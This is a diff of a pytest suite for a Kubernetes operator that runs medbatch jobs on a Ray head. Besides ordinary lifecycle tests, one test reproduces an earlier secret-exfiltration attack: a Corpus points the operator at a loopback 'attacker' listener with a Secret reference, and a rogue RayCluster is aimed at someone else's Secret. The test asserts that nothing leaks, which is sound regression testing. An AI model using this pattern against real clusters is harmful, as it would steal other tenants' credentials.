@@ -1,19 +1,49 @@
-"""The operator with ``spec.ray.address``: real medbatch jobs on a real Ray head through its Jobs API."""
+"""The operator with ``spec.ray``: real medbatch jobs on a real Ray head through its Jobs API.
+
+The head runs on loopback; a RayCluster object in the emulator stands for it (its dashboard port is the
+real head's) and the operator is told to reach heads on 127.0.0.1 instead of the cluster DNS name.
+"""
 
 from __future__ import annotations
 
+import base64
 import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlparse
 
 import httpx
 import pytest
 
 from medbatch.operator.jobs_api import TERMINAL_STATUSES
 from tests.corpora import notes, rows, write_jsonl
-from tests.operator.cluster import NAMESPACE, Cluster, eventually, running_operator
+from tests.operator.cluster import NAMESPACE, Cluster, eventually, free_port, running_operator
 
 pytestmark = [pytest.mark.asyncio(loop_scope="function"), pytest.mark.timeout(600)]
+
+ALLOWED = {"medbatch.io/allow-corpora": "true"}
+SECRET_VALUE = "db-password-do-not-leak"
+
+
+@pytest.fixture(autouse=True)
+def heads_on_loopback(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MEDBATCH_RAY_HEAD_URL", "http://127.0.0.1:{port}")
+
+
+def ray_cluster(name: str, dashboard: str | int, labels: dict[str, str] | None = None) -> dict[str, Any]:
+    """A RayCluster object as KubeRay would have it, pointing at a head's dashboard port."""
+    port = urlparse(dashboard).port if isinstance(dashboard, str) else dashboard
+    container = {"name": "ray-head", "image": "ray", "ports": [{"name": "dashboard", "containerPort": port}]}
+    return {
+        "apiVersion": "ray.io/v1",
+        "kind": "RayCluster",
+        "metadata": {"name": name, "namespace": NAMESPACE, "labels": ALLOWED if labels is None else labels},
+        "spec": {"headGroupSpec": {"template": {"spec": {"containers": [container]}}}},
+    }
+
 
 CPU_PROFILE = {
     "apiVersion": "medbatch.io/v1alpha1",
@@ -40,7 +70,7 @@ def corpus_on(ray_head: str, tmp_path: Path, name: str, count: int, shard_size: 
             "model": "cpu",
             "output": {"uri": str(tmp_path / "out")},
             "limits": {"shardSize": shard_size},
-            "ray": {"address": ray_head},
+            "ray": {"clusterName": "shared"},
         },
     }
 
@@ -55,6 +85,7 @@ async def test_a_corpus_on_an_existing_cluster_runs_to_success(
     cluster: Cluster, ray_head: str, tmp_path: Path
 ) -> None:
     await cluster.apply(CPU_PROFILE)
+    await cluster.apply(ray_cluster("shared", ray_head))
     async with running_operator():
         created = await cluster.apply(corpus_on(ray_head, tmp_path, "on-ray", 12, 4))
 
@@ -81,6 +112,7 @@ async def test_deleting_a_corpus_stops_its_running_job(
     cluster: Cluster, ray_head: str, tmp_path: Path
 ) -> None:
     await cluster.apply(CPU_PROFILE)
+    await cluster.apply(ray_cluster("shared", ray_head))
     async with running_operator():
         created = await cluster.apply(corpus_on(ray_head, tmp_path, "stop-me", 4000, 50))
         submission = f"medbatch-{created['metadata']['uid']}"
@@ -107,3 +139,151 @@ async def test_deleting_a_corpus_stops_its_running_job(
 
         await eventually(gone, "the Corpus to be deleted")
     assert not (tmp_path / "out" / "_manifest.json").exists()
+
+
+async def corpus_status(cluster: Cluster, name: str, **want: str) -> dict[str, Any]:
+    async def check() -> dict[str, Any] | None:
+        found = await cluster.get("Corpus", name)
+        status = (found or {}).get("status") or {}
+        return status if all(status.get(k) == v for k, v in want.items()) else None
+
+    return await eventually(check, f"Corpus {name} status {want}", timeout_s=120)
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on loopback that records every request it gets (an attacker's endpoint)."""
+    seen: list[str] = []
+
+    class Record(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(f"GET {self.path} {self.headers.get('Authorization')}")
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b'{"submission_id": "x", "status": "RUNNING", "message": "leaked page"}')
+
+        do_POST = do_GET  # noqa: N815
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+async def test_the_old_secret_exfiltration_fails(
+    cluster: Cluster, tmp_path: Path, listener: tuple[str, list[str]]
+) -> None:
+    """The attack medbatch 0.1 allowed: a Corpus naming any URL and any Secret key made the operator send
+    the Secret to that URL and copy the answer into the status. Now the fields do not exist, and a Corpus
+    can only name a RayCluster the platform team has labelled; a cluster it made itself is refused."""
+    url, seen = listener
+    await cluster.apply(CPU_PROFILE)
+    await cluster.apply(
+        {
+            "apiVersion": "v1",
+            "kind": "Secret",
+            "metadata": {"name": "db", "namespace": NAMESPACE},
+            "data": {"token": base64.b64encode(SECRET_VALUE.encode()).decode()},
+        }
+    )
+    # A RayCluster the Corpus author made, pointing at the attacker's listener, with KubeRay's token
+    # Secret option aimed at someone else's Secret.
+    rogue = ray_cluster("rogue", urlparse(url).port or 0, labels={})
+    rogue["spec"]["authOptions"] = {"mode": "token", "secretName": "db"}
+    await cluster.apply(rogue)
+    async with running_operator():
+        old = corpus_on(url, tmp_path, "old-attack", 2, 2)
+        old["spec"]["ray"] = {"address": url, "authTokenSecretRef": {"name": "db", "key": "token"}}
+        await cluster.apply(old)
+        new = corpus_on(url, tmp_path, "new-attack", 2, 2)
+        new["spec"]["ray"] = {"clusterName": "rogue"}
+        await cluster.apply(new)
+        failed = await corpus_status(cluster, "old-attack", phase="Failed", reason="InvalidSpec")
+        assert "spec.ray.address: unknown field" in failed["message"]
+        waiting = await corpus_status(cluster, "new-attack", phase="Pending", reason="RayClusterNotAllowed")
+        assert "medbatch.io/allow-corpora=true" in waiting["message"]
+        everything = json.dumps([await cluster.list_all(kind) for kind in ("Corpus", "Event")])
+    assert seen == [], "the operator sent a request to the attacker"
+    assert "db" not in cluster.names_requested("secrets"), "the operator read a Secret it was pointed at"
+    assert SECRET_VALUE not in everything
+    assert "leaked page" not in everything
+
+
+async def test_a_corpus_created_suspended_submits_nothing_until_resumed(
+    cluster: Cluster, ray_head: str, tmp_path: Path
+) -> None:
+    await cluster.apply(CPU_PROFILE)
+    await cluster.apply(ray_cluster("shared", ray_head))
+    async with running_operator():
+        document = corpus_on(ray_head, tmp_path, "held", 8, 4)
+        document["spec"]["suspend"] = True
+        created = await cluster.apply(document)
+        held = await corpus_status(cluster, "held", phase="Suspended")
+        assert "submissionId" not in held
+        assert await ray_job(ray_head, f"medbatch-{created['metadata']['uid']}") is None
+        await cluster.patch("Corpus", "held", {"spec": {"suspend": False}})
+        done = await corpus_status(cluster, "held", phase="Succeeded")
+        assert done["records"]["total"] == 8
+
+
+async def test_resume_stops_the_earlier_submission_before_starting_a_new_one(
+    cluster: Cluster, ray_head: str, tmp_path: Path
+) -> None:
+    await cluster.apply(CPU_PROFILE)
+    await cluster.apply(ray_cluster("shared", ray_head))
+    async with running_operator():
+        created = await cluster.apply(corpus_on(ray_head, tmp_path, "pause-me", 4000, 50))
+        first = f"medbatch-{created['metadata']['uid']}"
+
+        async def running() -> dict[str, Any] | None:
+            job = await ray_job(ray_head, first)
+            return job if job and job["status"] == "RUNNING" else None
+
+        await eventually(running, "the first submission to run", timeout_s=120)
+        await cluster.patch("Corpus", "pause-me", {"spec": {"suspend": True}})
+        await cluster.patch("Corpus", "pause-me", {"spec": {"suspend": False}})
+        status = await corpus_status(cluster, "pause-me", submissionId=f"{first}-r1")
+        assert status["resumes"] == 1
+        earlier, later = await ray_job(ray_head, first), await ray_job(ray_head, f"{first}-r1")
+        assert earlier is not None
+        assert later is not None
+        assert earlier["status"] in TERMINAL_STATUSES
+        assert earlier["end_time"] <= later["start_time"], "two submissions ran at once"
+        await cluster.delete("Corpus", "pause-me")
+
+        async def gone() -> bool:
+            return await cluster.get("Corpus", "pause-me") is None
+
+        await eventually(gone, "the Corpus to be deleted", timeout_s=120)
+
+
+async def test_deleting_a_corpus_whose_cluster_is_unreachable_finishes_with_a_warning(
+    cluster: Cluster, ray_head: str, tmp_path: Path
+) -> None:
+    await cluster.apply(CPU_PROFILE)
+    await cluster.apply(ray_cluster("shared", ray_head))
+    async with running_operator():
+        await cluster.apply(corpus_on(ray_head, tmp_path, "orphan", 4000, 50))
+        await corpus_status(cluster, "orphan", phase="Running")
+        # The head becomes unreachable: its dashboard moves to a port nobody listens on.
+        dead = ray_cluster("shared", free_port())
+        await cluster.patch("RayCluster", "shared", {"spec": dead["spec"]})
+        await cluster.delete("Corpus", "orphan")
+
+        async def gone() -> bool:
+            return await cluster.get("Corpus", "orphan") is None
+
+        await eventually(gone, "the Corpus to be deleted despite the unreachable cluster", timeout_s=60)
+        warnings = [e for e in await cluster.events("orphan") if e["reason"] == "RayJobMayStillRun"]
+    assert warnings
+    assert warnings[0]["type"] == "Warning"
+    assert "may still run" in warnings[0]["message"]
+    # Let the real head stop the orphaned job so it does not slow the next tests.
+    async with httpx.AsyncClient() as client:
+        for job in (await client.get(f"{ray_head}/api/jobs/")).json():
+            if job["status"] not in TERMINAL_STATUSES:
+                await client.post(f"{ray_head}/api/jobs/{job['submission_id']}/stop")
